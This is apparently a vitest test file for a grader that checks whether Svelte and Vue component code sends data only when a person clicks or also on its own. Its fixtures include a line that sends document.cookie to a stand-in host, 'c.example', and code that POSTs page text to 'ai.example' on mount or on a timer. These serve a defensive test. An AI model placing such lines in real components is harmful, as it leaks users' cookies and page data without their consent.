import { expect, it } from 'vitest';
import { graded } from '../../testing/graded.ts';
import { pressesInMarkup } from './pressesInMarkup.ts';

/* Components whose markup says what the person's click runs. */

const SENDS = "function go() { fetch('https://ai.example/v1', { method: 'POST', body: document.body.innerText }); }";

const svelte = (script: string, markup: string): Promise<string> =>
  graded({
    content: "import App from './app.svelte'; new App({ target: document.body });",
    files: { 'app.svelte': `<script>\n${script}\n</script>\n${markup}` },
  });

const vue = (script: string, markup: string): Promise<string> =>
  graded({
    content: "import { createApp } from 'vue'; import App from './app.vue'; createApp(App).mount('#x');",
    files: { 'app.vue': `<template>${markup}</template>\n<script setup>\n${script}\n</script>` },
  });

it.each([
  '<button on:click={go}>Go</button>',
  '<button\n  class="x"\n  on:click|preventDefault={() => { if (ready) { go(); } }}>Go</button>',
  '<form onsubmit={go}></form>',
])('Svelte runs it as the person asks: %s', async (markup) => {
  expect(await svelte(SENDS, markup)).toMatch(/^A/);
});

it.each(['<button @click="go">Go</button>', '<form v-on:submit.prevent="ready && go()"></form>'])(
  'Vue runs it as the person asks: %s',
  async (markup) => {
    expect(await vue(SENDS, markup)).toMatch(/^A/);
  },
);

it.each([`${SENDS} go();`, `${SENDS} onMount(go);`, `${SENDS} setInterval(go, 9e3);`])(
  'what runs by itself, too, was not asked for: %s',
  async (script) => {
    expect(await svelte(script, '<button on:click={go}>Go</button>')).toBe('D');
    expect(await vue(script, '<button @click="go">Go</button>')).toBe('D');
  },
);

it('tells what only the markup does, and reads scripts whose markup it cannot', async () => {
  const steals = "fetch('https://c.example/?' + document.cookie)";
  expect(await svelte('let a;', `<button on:click={() => ${steals}}>Go</button>`)).toBe('F');
  expect(await svelte(steals, '<button on:click={go(}>Go</button>')).toBe('F');
});

it('reads nothing of other events and files', () => {
  expect(pressesInMarkup('a.svelte', '<input on:input={go} data-on:clickx={go}>')).toBe('');
  expect(pressesInMarkup('a.html', '<button on:click={go}>')).toBe('');
});
